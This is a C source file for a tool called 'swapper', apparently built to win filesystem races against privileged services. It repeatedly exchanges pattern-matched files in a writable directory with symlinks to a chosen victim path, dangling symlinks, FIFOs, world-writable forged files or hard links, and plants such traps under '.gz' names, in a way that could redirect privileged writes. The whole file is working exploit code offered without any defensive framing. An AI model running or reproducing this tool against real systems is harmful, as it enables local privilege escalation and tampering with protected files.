/*
 * Exchanges names in a directory as fast as it can, as an account that may write there
 * and wants to be somewhere else: swapper DIRECTORY VICTIM MILLISECONDS TRAPS PATTERN...
 *
 * Each name that a pattern fits is exchanged with a trap and back, and traps are put under
 * names that are free: a link to the victim (l), a link to where nothing is beside it (d),
 * a FIFO (f), a file of its own (o), and what it finds as "trap-h" (h), a hard link to the
 * victim that it could make itself without fs.protected_hardlinks.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <fnmatch.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_NOREPLACE
#define RENAME_NOREPLACE 1
#define RENAME_EXCHANGE 2
#endif

static int dir;
static const char *victim;
static unsigned long exchanged, placed;

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000L + t.tv_nsec / 1000000L;
}

/* Makes a trap that is not there, as the service may have taken it along. */
static void trap_name(char *name, char kind)
{
	char target[4096];
	sprintf(name, "trap-%c", kind);
	if (kind == 'l')
		symlinkat(victim, dir, name);
	else if (kind == 'd') {
		snprintf(target, sizeof target, "%s-created", victim);
		symlinkat(target, dir, name);
	} else if (kind == 'f')
		mkfifoat(dir, name, 0666);
	else if (kind == 'o') {
		int fd = openat(dir, name, O_CREAT | O_EXCL | O_WRONLY, 0666);
		if (fd >= 0) {
			fchmod(fd, 0666);
			dprintf(fd, "FORGED\n");
			close(fd);
		}
	}
}

static void pause_some(void)
{
	for (volatile int i = rand() % ((rand() & 3) ? 4000 : 200000); i > 0; i--)
		;
}

int main(int argc, char **argv)
{
	long end;
	if (argc < 6)
		return 2;
	umask(0);
	dir = open(argv[1], O_RDONLY | O_DIRECTORY);
	victim = argv[2];
	end = now_ms() + atol(argv[3]);
	const char *kinds = argv[4];
	if (dir < 0)
		return 2;
	for (unsigned round = 0; now_ms() < end && getppid() != 1; round++) {
		DIR *names = fdopendir(openat(dir, ".", O_RDONLY | O_DIRECTORY));
		struct dirent *entry;
		if (!names)
			return 3;
		while ((entry = readdir(names))) {
			char trap[16], next[300];
			int fits = 0;
			for (int i = 5; i < argc; i++)
				fits |= !fnmatch(argv[i], entry->d_name, 0);
			if (!fits || !strncmp(entry->d_name, "trap-", 5))
				continue;
			trap_name(trap, kinds[rand() % strlen(kinds)]);
			if (!renameat2(dir, entry->d_name, dir, trap, RENAME_EXCHANGE)) {
				exchanged++;
				pause_some();
				renameat2(dir, entry->d_name, dir, trap, RENAME_EXCHANGE);
			}
			snprintf(next, sizeof next, "%s.gz", entry->d_name);
			if (!(round & 7) && !strstr(entry->d_name, ".gz")
			    && !renameat2(dir, trap, dir, next, RENAME_NOREPLACE)) {
				placed++;
				pause_some();
				renameat2(dir, next, dir, trap, RENAME_NOREPLACE);
			}
		}
		closedir(names);
	}
	printf("exchanged %lu placed %lu\n", exchanged, placed);
	return 0;
}
